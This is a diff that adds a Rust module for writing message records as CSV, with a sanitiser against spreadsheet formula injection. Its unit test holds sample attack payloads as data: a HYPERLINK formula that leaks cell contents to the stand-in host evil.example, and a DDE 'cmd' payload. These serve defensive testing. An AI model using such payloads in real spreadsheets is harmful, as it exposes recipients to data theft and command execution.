@@ -1,0 +1,140 @@
+//! CSV: a record as a row of cells, which a spreadsheet takes for text.
+
+use std::io::Write;
+
+use chrono::SecondsFormat;
+
+use crate::record::Record;
+use crate::text;
+use crate::weibo::{Kind, UserId};
+
+/// The titles of the columns; the JSON fields without `raw`, which stands under `text` for unreadable ones, and without
+/// `account`, which comes last and only where there are several.
+const TITLES: [&str; 11] = [
+    "seq",
+    "type",
+    "receiver_id",
+    "sender_id",
+    "created_at",
+    "sent_at",
+    "received_at",
+    "text",
+    "data",
+    "verified",
+    "deliveries",
+];
+/// With it in front Excel reads UTF-8.
+const BYTE_ORDER_MARK: &[u8] = b"\xef\xbb\xbf";
+/// What a formula may begin with, in ASCII and as a Chinese input method writes it.
+const FORMULA: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
+
+/// How CSV is written.
+#[derive(Debug, Clone, Copy)]
+pub(super) struct Csv {
+    /// Whether there is a column for the account.
+    pub(super) has_accounts: bool,
+    /// Whether cells are as they are, for programs.
+    pub(super) is_raw: bool,
+}
+
+impl Csv {
+    /// Writes the first row.
+    pub(super) fn begin(self, mut out: impl Write) -> anyhow::Result<()> {
+        if !self.is_raw {
+            out.write_all(BYTE_ORDER_MARK)?;
+        }
+        let account = self.has_accounts.then_some("account");
+        csv::Writer::from_writer(out).write_record(TITLES.into_iter().chain(account)).map_err(error)
+    }
+
+    /// The rows of some records.
+    pub(super) fn rows(self, records: &[Record]) -> anyhow::Result<Vec<u8>> {
+        let mut rows = Vec::new();
+        let mut csv = csv::Writer::from_writer(&mut rows);
+        for record in records {
+            let account = self.has_accounts.then(|| record.account.clone());
+            let cells = cells(record).into_iter().chain(account);
+            let cells = cells.map(|cell| if self.is_raw { cell } else { harmless(&cell) });
+            csv.write_record(cells).map_err(error)?;
+        }
+        csv.flush()?;
+        drop(csv);
+        Ok(rows)
+    }
+}
+
+fn cells(record: &Record) -> [String; 11] {
+    let message = &record.message;
+    let id = |id: Option<UserId>| id.map_or_else(String::new, |id| id.to_string());
+    let is_unreadable = message.kind() == Kind::Unreadable;
+    let text = if is_unreadable { String::from_utf8_lossy(&record.raw).into_owned() } else { message.text.clone() };
+    [
+        record.seq.to_string(),
+        message.type_name.clone(),
+        id(message.receiver_id),
+        id(message.sender_id),
+        message.created_at.clone(),
+        record.sent_at().to_rfc3339(),
+        record.received_at.to_rfc3339_opts(SecondsFormat::Millis, true),
+        text,
+        serde_json::Value::Object(message.data.clone()).to_string(),
+        record.verified.to_string(),
+        record.deliveries.to_string(),
+    ]
+}
+
+/// A cell of which a terminal obeys nothing and a spreadsheet runs nothing: an apostrophe stands before what begins like
+/// a formula. A cell begins anew at a line break, and at a semicolon or a tab, by which some spreadsheets part cells.
+fn harmless(cell: &str) -> String {
+    let drawable = text::portable(cell);
+    let mut harmless = String::with_capacity(drawable.len());
+    let mut is_start = true;
+    for c in drawable.chars() {
+        if is_start && FORMULA.contains(&c) {
+            harmless.push('\'');
+        }
+        harmless.push(c);
+        is_start = matches!(c, ';' | '；')
+            || c.is_whitespace() && (is_start || matches!(c, '\n' | '\t'))
+            || is_start && c == '"';
+    }
+    harmless
+}
+
+/// The I/O error inside, so that a closed pipe is recognised; as a whole it would be of kind `Other`.
+fn error(error: csv::Error) -> anyhow::Error {
+    let words = error.to_string();
+    if let csv::ErrorKind::Io(source) = error.into_kind() { source.into() } else { anyhow::Error::msg(words) }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_begins_like_a_formula_does_not_any_more_and_the_rest_stays() {
+        for (cell, expected) in [
+            (
+                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"退款\")",
+                "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"退款\")",
+            ),
+            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+            ("@SUM(1+1)", "'@SUM(1+1)"),
+            ("-2+3", "'-2+3"),
+            ("＝1+1", "'＝1+1"),
+            ("  =1", "  '=1"),
+            ("\"=1", "\"'=1"),
+            ("a\n=1", "a\n'=1"),
+            ("a\r=1", "a\n'=1"),
+            ("a;=1", "a;'=1"),
+            ("a; -1", "a; '-1"),
+            ("\u{feff}=1", "⟨FEFF⟩=1"),
+            ("\u{1b}[31m=1", "␛[31m=1"),
+            ("1+1 = 2 - @小王", "1+1 = 2 - @小王"),
+            ("{\"key\":\"=1\"}", "{\"key\":\"=1\"}"),
+            ("👩‍💻 你好", "👩‍💻 你好"),
+        ] {
+            assert_eq!(harmless(cell), expected, "{cell:?}");
+        }
+    }
+}
